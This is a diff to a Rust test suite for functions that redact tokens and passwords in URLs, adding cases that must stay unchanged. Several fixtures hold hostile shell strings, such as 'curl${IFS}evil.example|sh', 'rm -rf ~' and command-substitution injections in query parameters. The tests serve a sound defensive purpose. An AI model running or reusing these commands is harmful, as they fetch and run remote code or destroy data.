@@ -74,6 +74,10 @@ const R: &str = REDACTED;
     r#"{"a":"https:\/\/u:S3@a.example\/?q=1\u0026token=S3","b":1}"#,
     r#"{"a":"https:\/\/u:R@a.example\/?q=1\u0026token=R","b":1}"#
 )]
+#[case::json_in_between(
+    r#"{"a":"https://a.example/?token=S3\u0026q=1\u0026x=2"}"#,
+    r#"{"a":"https://a.example/?token=R\u0026q=1\u0026x=2"}"#
+)]
 #[case::html(
     r#"<a href="https://a.example/?q=1&amp;sig=S3">x</a>"#,
     r#"<a href="https://a.example/?q=1&amp;sig=R">x</a>"#
@@ -122,6 +126,31 @@ fn a_secret_in_an_address_was_shown(#[case] text: &str, #[case] shown: &str) {
 #[case("// a comment, from me: mail a@b.example")]
 #[case("see https://a.example/ and write to me: x@y.example")]
 #[case("1 == 2 ? a : b")]
+#[case("true;key=$(curl${IFS}evil.example|sh)")]
+#[case("a=1;token=read()")]
+#[case("true&token=reboot")]
+#[case("a#key=1;b?secret=2")]
+#[case("let a=b?token=c:d")]
+#[case("a/b?token=c:d")]
+#[case("curl https://a.example/?key=$(rm -rf ~)")]
+#[case("curl https://a.example/?key=$(rm${IFS}-rf${IFS}~)")]
+#[case("curl \"https://a.example/?key=`reboot`\"")]
+#[case("curl https://a.example/?token=$AWS_KEY2")]
+#[case("curl https://a.example/?a=1&key=reboot;$key")]
+#[case("curl https://a.example/;token=reboot;${token}")]
+#[case("curl https://a.example/?a=1&key=(reboot)")]
+#[case("curl https://a.example/?a=b;key=reboot")]
+#[case("curl https://a.example/?key=<(reboot)")]
+#[case("x://;key=$(curl${IFS}evil.example|sh)")]
+#[case("x://?key=a|sh")]
+#[case("x://h?key=;reboot;")]
+#[case("x://u:$(curl${IFS}evil.example|sh)@h")]
+#[case("x://u:;reboot;@h")]
+#[case("x://$(curl${IFS}evil.example|sh)1234567890@h")]
+#[case("x://u:&reboot&/x@h")]
+#[case("x://hooks.slack.com/services/;reboot;")]
+#[case("p //;token=system(:reboot)")]
+#[case("https://a.example/?pageToken=CAUQAA&continuationToken=b&next_page_token=c")]
 fn an_ordinary_text_was_changed(#[case] text: &str) {
     assert!(
         matches!(redact_addresses(text), Cow::Borrowed(_)),
@@ -137,6 +166,44 @@ fn a_path_that_is_a_key_was_shown() {
         let shown = format!("post to https://{place}{R}, or not");
         assert_eq!(redact_addresses(&text), shown);
         assert_eq!(redact_addresses(&shown), shown);
+    }
+}
+
+#[rstest]
+#[case(
+    "docker://alpine:3.19@sha256:6457d53fb065d6f250e1504b9bc42d5b6c65941d57532c072d929dd0628977d0"
+)]
+#[case(
+    "oci://ghcr.io/a/b:1.2@sha256:6457d53fb065d6f250e1504b9bc42d5b6c65941d57532c072d929dd0628977d0"
+)]
+#[case(
+    "docker-pullable://redis:7@sha512:6457d53fb065d6f250e1504b9bc42d5b6c65941d57532c072d929dd0628977d0"
+)]
+#[case("git@github.com:org/repo")]
+#[case("ssh://git@github.com:org/repo.git")]
+#[case("git+ssh://gh:org/repo@v1.2.3")]
+#[case("mailto:a@b")]
+#[case("https://a.example,mailto:me@b.example")]
+#[case("[me](https://a.example):me@b.example")]
+#[case("//contact:me@b.example")]
+#[case("http://localhost:3000/@scope/pkg")]
+#[case("http://web:3000/@scope/pkg@1.2.3")]
+#[case("https://cdn.example/npm/pkg@1.2.3/+esm")]
+#[case("npm:pkg@1.2.3")]
+#[case("npm://pkg:core@1.2.3-rc.1")]
+#[case("pkg:npm/%40scope/pkg@1.2.3")]
+#[case("https://a.example/a:b@c")]
+#[case("http://[::1]:80/a:b@c")]
+#[case("write to:me@b.example, see https://a.example/")]
+#[case("jdbc:mysql://db:3306/x?user=a@b")]
+fn what_a_program_printed_was_changed(#[case] printed: &str) {
+    for text in [
+        printed.to_owned(),
+        format!("see {printed}, or \"{printed}\"\n"),
+    ] {
+        let shown = redact_passwords(&text);
+        assert!(matches!(shown, Cow::Borrowed(_)), "{shown}");
+        assert_eq!(redact_addresses(&text), text);
     }
 }
 
@@ -272,13 +339,15 @@ fn a_long_text_without_a_break_is_looked_through_once() {
         ";",
         "#x=y//",
     ] {
-        let text = part.repeat(MANY);
-        let shown = redact_addresses(&text);
-        assert_eq!(
-            shown.contains(R),
-            part.contains("key") || part.contains('@'),
-            "{part}"
-        );
-        let _ = redact_passwords(&text);
+        for before in ["", "https://a.example/?", "$a${b /a?"] {
+            let text = format!("{before}{}", part.repeat(MANY));
+            let shown = redact_addresses(&text);
+            assert_eq!(
+                shown.contains(R),
+                part.contains("key") && !before.is_empty() || part.contains('@'),
+                "{part}"
+            );
+            let _ = redact_passwords(&text);
+        }
     }
 }
